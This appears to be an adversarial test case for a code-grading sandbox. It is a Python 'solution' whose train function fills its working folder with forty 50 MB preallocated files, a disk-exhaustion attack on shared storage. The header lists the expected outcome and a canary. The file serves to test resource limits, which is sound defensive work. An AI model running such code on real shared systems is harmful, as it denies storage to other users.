# Attempt: fills the folder that it runs in, and with it the disk of everybody
# Kind: script
# Base: solution
# Score: exactly 20
# Fails: train
# Never: "wrote 2000 MB"
# Canary: files
import os


def train(params, x, t, lr, epochs):
    written = 0
    try:
        for number in range(40):
            with open(f"big{number}", "wb") as stream:
                os.posix_fallocate(stream.fileno(), 0, 50_000_000)
            written += 50
    except OSError:
        pass
    raise ValueError(f"wrote {written} MB")
